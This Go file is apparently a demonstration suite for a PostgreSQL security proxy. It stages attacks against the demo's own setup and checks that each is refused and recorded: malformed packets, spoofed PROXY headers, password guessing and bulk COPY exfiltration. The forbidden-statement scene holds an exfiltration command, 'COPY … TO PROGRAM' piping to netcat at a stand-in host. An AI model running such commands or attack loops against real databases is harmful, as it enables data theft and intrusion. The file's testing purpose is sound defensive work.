package demo

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"strings"
	"time"

	"github.com/csfproxy/csfproxy/csf"
	"github.com/csfproxy/csfproxy/internal/selftest"
	"github.com/jackc/pgx/v5"
	"github.com/jackc/pgx/v5/pgconn"
)

// The addresses that the attackers of the demonstration have, behind its balancer (RFC 5737: documentation).
var (
	rogueClient = netip.MustParseAddr("203.0.113.50")
	guesser     = netip.MustParseAddr("203.0.113.66")
	spoofed     = netip.MustParseAddr("203.0.113.99")
)

// steps are the scenes in their order.
func (s *show) steps() []scene {
	return []scene{
		{"ordinary traffic", "pgx and simple-protocol clients read and write over TLS; every session is bound and every statement recorded", s.ordinary},
		{"malformed packets", "impossible lengths, unknown types and cut messages are refused, and harm nobody", s.malformed},
		{"spoofed PROXY header", "a header from somebody who is no registered source is refused, its address not used", s.spoof},
		{"plaintext attempt", "no TLS: refused with 28000 before any challenge", s.plaintext},
		{"expired identity", "a contractor whose registration ran out is refused although the role exists", s.expired},
		{"password guessing", "a finding opens and the source is shut out", s.guessing},
		{"alert", "the on-call receiver gets a signed alert about it", s.alerted},
		{"forbidden statement", "COPY … TO PROGRAM gets 42501, the transaction fails as after any error, the session lives", s.forbidden},
		{"exfiltration by COPY", "the volume is noticed and the identity contained, its session ended", s.exfiltration},
		{"REST API with roles", "an auditor may read and not act; an operator ends a session with 57P01", s.killed},
		{"primary killed under load", "the runbook fences, promotes, verifies and reroutes; writes go on", s.failover},
		{"self-tests", "every control is attacked, and each test fails where its control is off", s.selfTests},
	}
}

// events waits for an event of the kind that the check accepts.
func (s *show) event(ctx context.Context, since time.Time, kind csf.Kind, accept func(csf.Event) bool) (csf.Event, bool) {
	for {
		for _, e := range s.node.Recent(since, kind) {
			if !e.SelfTest && accept(e) {
				return e, true
			}
		}
		select {
		case <-ctx.Done():
			return csf.Event{}, false
		case <-time.After(5 * time.Millisecond):
		}
	}
}

func reasonIs(r csf.Reason) func(csf.Event) bool {
	return func(e csf.Event) bool { return e.Reason == r }
}

// short bounds the wait for one event.
func short(ctx context.Context) (context.Context, context.CancelFunc) {
	return context.WithTimeout(ctx, 10*time.Second)
}

func (s *show) ordinary(ctx context.Context) (string, bool) {
	start := time.Now()
	s.traffic = startTraffic(s.estate, 6)
	for deadline := time.Now().Add(10 * time.Second); s.traffic.writes.Load() < 300 && time.Now().Before(deadline); {
		time.Sleep(10 * time.Millisecond)
	}
	bound := 0
	for _, e := range s.node.Recent(start, csf.SessionBound) {
		if !e.SelfTest {
			bound++
		}
	}
	if _, ok := s.event(ctx, start, csf.QueryObserved, func(csf.Event) bool { return true }); !ok {
		return "no statement was recorded", false
	}
	r, w, e := s.traffic.reads.Load(), s.traffic.writes.Load(), s.traffic.errors.Load()
	return fmt.Sprintf("%d sessions bound, %d reads and %d writes, %d errors", bound, r, w, e), bound >= 6 && w >= 300 && e == 0
}

func (s *show) malformed(ctx context.Context) (string, bool) {
	ctx, cancel := short(ctx)
	defer cancel()
	start := time.Now()
	before := s.traffic.errors.Load()
	attacks := []struct {
		what  string
		bytes []byte
	}{
		{"length 0", []byte{'Q', 0, 0, 0, 0}}, {"length 2³¹-1", []byte{'Q', 0x7f, 0xff, 0xff, 0xff, 'S'}}, {"type 0xff", []byte{0xff, 0, 0, 0, 4}},
		{"a server's message", []byte{'Z', 0, 0, 0, 5, 'I'}}, {"password after login", []byte{'p', 0, 0, 0, 6, 'x', 0}},
	}
	for _, a := range attacks {
		if err := s.rogue(ctx, a.bytes); err != nil {
			return a.what + ": " + err.Error(), false
		}
	}
	for range attacks { // the same before login: a startup packet of 16 MB, and text of another protocol
		c, err := behindBalancer(rogueClient)(ctx, "tcp", s.estate.edge)
		if err != nil {
			return err.Error(), false
		}
		c.Write([]byte{1, 0, 0, 0, 0, 3, 0, 0})
		if answer, _ := io.ReadAll(c); len(answer) > 0 {
			return fmt.Sprintf("an impossible startup packet was answered: %q", answer), false
		}
		c.Close()
	}
	if _, ok := s.event(ctx, start, csf.ProtocolViolation, func(csf.Event) bool { return true }); !ok {
		return "no protocol.violation was recorded", false
	}
	n := len(s.node.Recent(start, csf.ProtocolViolation)) + len(s.node.Recent(start, csf.StartupRefused))
	harmed := s.traffic.errors.Load() - before
	return fmt.Sprintf("%d attacks, %d refused and recorded, %d errors of other clients", 2*len(attacks), n, harmed), n >= 2*len(attacks) && harmed == 0
}

// rogue logs in as an ordinary application and then sends bytes that no client may send.
func (s *show) rogue(ctx context.Context, b []byte) error {
	cfg, err := pgconn.ParseConfig(s.estate.url("orders", s.estate.edge))
	if err != nil {
		return err
	}
	cfg.DialFunc = behindBalancer(rogueClient)
	c, err := pgconn.ConnectConfig(ctx, cfg)
	if err != nil {
		return err
	}
	h, err := c.Hijack()
	if err != nil {
		return err
	}
	defer h.Conn.Close()
	h.Conn.SetDeadline(time.Now().Add(5 * time.Second))
	if _, err := h.Conn.Write(b); err != nil {
		return err
	}
	answer, err := io.ReadAll(h.Conn)
	if err != nil && !errors.Is(err, net.ErrClosed) && strings.Contains(err.Error(), "timeout") {
		return errors.New("the connection stayed open")
	}
	if len(answer) > 0 && answer[0] != 'E' {
		return fmt.Errorf("answered %q", answer)
	}
	return nil
}

func (s *show) spoof(ctx context.Context) (string, bool) {
	ctx, cancel := short(ctx)
	defer cancel()
	start := time.Now()
	// The balancer's listener knows one source, 127.0.0.1. This header comes from 127.0.0.1 too, on the applications' listener,
	// where nobody may send one.
	c, err := net.Dial("tcp", s.estate.apps)
	if err != nil {
		return err.Error(), false
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(5 * time.Second))
	fmt.Fprintf(c, "PROXY TCP4 %s 127.0.0.1 4711 5432\r\n", spoofed)
	if answer, _ := io.ReadAll(c); len(answer) > 0 {
		return fmt.Sprintf("answered %q", answer), false
	}
	e, ok := s.event(ctx, start, csf.ProxyRefused, func(csf.Event) bool { return true })
	if !ok {
		return "no proxyproto.refused was recorded", false
	}
	return fmt.Sprintf("closed without an answer; recorded as %s from %s", e.Reason, e.Client.Addr()), e.Client.Addr() != spoofed
}

func (s *show) plaintext(ctx context.Context) (string, bool) {
	ctx, cancel := short(ctx)
	defer cancel()
	start := time.Now()
	_, err := pgx.Connect(ctx, strings.Replace(s.estate.url("orders", s.estate.apps), "sslmode=verify-full", "sslmode=disable", 1))
	if _, ok := s.event(ctx, start, csf.TLSPlaintextRefused, reasonIs(csf.ReasonPlaintext)); !ok {
		return "no tls.plaintext_refused was recorded", false
	}
	return "client saw " + sqlState(err) + "; recorded", sqlState(err) == "28000"
}

func (s *show) expired(ctx context.Context) (string, bool) {
	ctx, cancel := short(ctx)
	defer cancel()
	start := time.Now()
	_, err := pgx.Connect(ctx, s.estate.url("contractor", s.estate.apps))
	e, ok := s.event(ctx, start, csf.AuthzDenied, reasonIs(csf.ReasonIdentityExpired))
	if !ok {
		return "no authz.denied was recorded", false
	}
	return fmt.Sprintf("client saw %s; recorded for identity %s", sqlState(err), e.Identity), sqlState(err) == "28P01"
}

// guessing tries passwords from an address behind the balancer until it is shut out.
func (s *show) guessing(ctx context.Context) (string, bool) {
	ctx, cancel := short(ctx)
	defer cancel()
	start := time.Now()
	cfg, err := pgx.ParseConfig(s.estate.url("orders", s.estate.edge))
	if err != nil {
		return err.Error(), false
	}
	cfg.DialFunc = behindBalancer(guesser)
	for n := 1; ctx.Err() == nil; n++ {
		cfg.Password = fmt.Sprintf("guess-%d", n)
		c, err := pgx.ConnectConfig(ctx, cfg)
		if err == nil {
			c.Close(ctx)
			return "a guess was accepted", false
		}
		if e := s.node.Recent(start, csf.ContainmentApplied); len(e) > 0 {
			cfg.Password = s.estate.passwords["orders"]
			_, err := pgx.ConnectConfig(ctx, cfg)
			return fmt.Sprintf("after %d guesses rule %s shut %s out within %v ms; even the right password gets %s", n, ruleOf(e[0]), e[0].Facts["subject"],
				e[0].Facts["act_ms"], sqlState(err)), sqlState(err) == "28000"
		}
	}
	return "nobody was contained", false
}

// behindBalancer dials and says in a PROXY header for which client.
func behindBalancer(client netip.Addr) func(context.Context, string, string) (net.Conn, error) {
	return func(ctx context.Context, network, addr string) (net.Conn, error) {
		c, err := (&net.Dialer{}).DialContext(ctx, network, addr)
		if err != nil {
			return nil, err
		}
		_, err = c.Write(header(client, netip.MustParseAddrPort(addr)))
		return c, err
	}
}

// header is a PROXY header of version 2 (specification, 2.2).
func header(from netip.Addr, to netip.AddrPort) []byte {
	b := append([]byte("\r\n\r\n\x00\r\nQUIT\n"), 0x21, 0x11, 0, 12)
	b = append(append(b, from.AsSlice()...), to.Addr().AsSlice()...)
	return binary.BigEndian.AppendUint16(binary.BigEndian.AppendUint16(b, 4711), to.Port())
}

func (s *show) forbidden(ctx context.Context) (string, bool) {
	ctx, cancel := short(ctx)
	defer cancel()
	start := time.Now()
	c, err := pgx.Connect(ctx, s.estate.url("migrations", s.estate.apps))
	if err != nil {
		return err.Error(), false
	}
	defer c.Close(ctx)
	c.Exec(ctx, "BEGIN")
	_, refused := c.Exec(ctx, "COPY orders TO PROGRAM 'nc evil.example 9'")
	status := c.PgConn().TxStatus()
	_, after := c.Exec(ctx, "SELECT 1")
	c.Exec(ctx, "ROLLBACK")
	var one int
	if err := c.QueryRow(ctx, "SELECT 1").Scan(&one); err != nil {
		return "the session did not live: " + err.Error(), false
	}
	e, ok := s.event(ctx, start, csf.QueryBlocked, func(csf.Event) bool { return true })
	if !ok {
		return "no query.blocked was recorded", false
	}
	return fmt.Sprintf("client saw %s by %s, transaction status %c, then %s; recorded as %q", sqlState(refused), ruleOf(e), status, sqlState(after), e.Facts["redacted"]),
		sqlState(refused) == "42501" && status == 'E' && sqlState(after) == "25P02"
}

func (s *show) exfiltration(ctx context.Context) (string, bool) {
	ctx, cancel := short(ctx)
	defer cancel()
	start := time.Now()
	c, err := pgx.Connect(ctx, s.estate.url("reporting", s.estate.apps))
	if err != nil {
		return err.Error(), false
	}
	defer c.Close(ctx)
	counted := &counter{}
	for ctx.Err() == nil {
		if _, err := c.PgConn().CopyTo(ctx, counted, "COPY customers TO STDOUT"); err != nil {
			break
		}
	}
	e, ok := s.event(ctx, start, csf.ContainmentApplied, func(e csf.Event) bool { return e.Identity == "reporting" })
	if !ok {
		return fmt.Sprintf("%d MB left and nobody was contained", counted.n>>20), false
	}
	_, again := pgx.Connect(ctx, s.estate.url("reporting", s.estate.apps))
	return fmt.Sprintf("after %d MB rule %s contained %v, ended %v session in %v ms; its next login gets %s", counted.n>>20, ruleOf(e), e.Facts["subject"],
		e.Facts["sessions_ended"], e.Facts["act_ms"], sqlState(again)), sqlState(again) == "28000"
}

type counter struct{ n int64 }

func (c *counter) Write(b []byte) (int, error) {
	c.n += int64(len(b))
	return len(b), nil
}

// failover kills the primary while the traffic writes and times the first write that began afterwards.
func (s *show) failover(ctx context.Context) (string, bool) {
	start := time.Now()
	old := s.estate.primary.Addr()
	killed := time.Now()
	if err := s.estate.primary.Kill(); err != nil {
		return err.Error(), false
	}
	select {
	case at := <-s.traffic.nextWrite(killed):
		s.summary.FailoverMS = at.Sub(killed).Milliseconds()
	case <-ctx.Done():
		return "no write succeeded after the kill", false
	}
	e, ok := s.event(ctx, start, csf.FailoverSwitched, func(csf.Event) bool { return true })
	if !ok {
		return "no failover.switched was recorded", false
	}
	n, err := s.rows(ctx)
	if err != nil {
		return err.Error(), false
	}
	s.estate.primary, s.estate.standby = s.estate.standby, s.estate.primary
	return fmt.Sprintf("%s → %v, term %v: first write on the new primary after %d ms (confirm %v, fence %v, promote %v, verify %v ms); %d rows there",
			old, e.Facts["to"], e.Facts["term"], s.summary.FailoverMS, e.Facts["confirm_ms"], e.Facts["fence_ms"], e.Facts["promote_ms"], e.Facts["verify_ms"], n),
		s.summary.FailoverMS < sceneTimeout.Milliseconds()
}

// rows counts the orders on the new primary.
func (s *show) rows(ctx context.Context) (int, error) {
	c, err := pgx.Connect(ctx, s.estate.url("orders", s.estate.apps))
	if err != nil {
		return 0, err
	}
	defer c.Close(ctx)
	var n int
	err = c.QueryRow(ctx, "SELECT count(*) FROM orders").Scan(&n)
	return n, err
}

func (s *show) selfTests(ctx context.Context) (string, bool) {
	results, err := s.node.SelfTests(ctx)
	if err != nil {
		return err.Error(), false
	}
	var passed int
	var other []string
	for _, r := range results {
		if r.Result == selftest.Pass && (r.Sandbox == "" || r.Sandbox == selftest.Fail) {
			passed++
		} else {
			other = append(other, fmt.Sprintf("%s: %s, sandbox %s (%s)", r.Test, r.Result, r.Sandbox, r.Detail))
		}
	}
	return strings.TrimSpace(fmt.Sprintf("%d of %d pass. %s", passed, len(results), strings.Join(other, "; "))), passed == len(results) && passed >= 12
}

// ruleOf names what decided: a rule, or a class of statements that the identity is denied.
func ruleOf(e csf.Event) string {
	if r, ok := e.Facts["rule"].(string); ok && r != "" {
		return r
	}
	if class, ok := e.Facts["class"].(string); ok && class != "" {
		return "denied class " + class
	}
	by, _ := e.Facts["by"].(string)
	return strings.TrimPrefix(by, "rule ")
}

// sqlState gives what a client was told: the SQLSTATE, "ok" or the error.
func sqlState(err error) string {
	if err == nil {
		return "ok"
	}
	if pe, ok := errors.AsType[*pgconn.PgError](err); ok {
		return pe.Code
	}
	return err.Error()
}
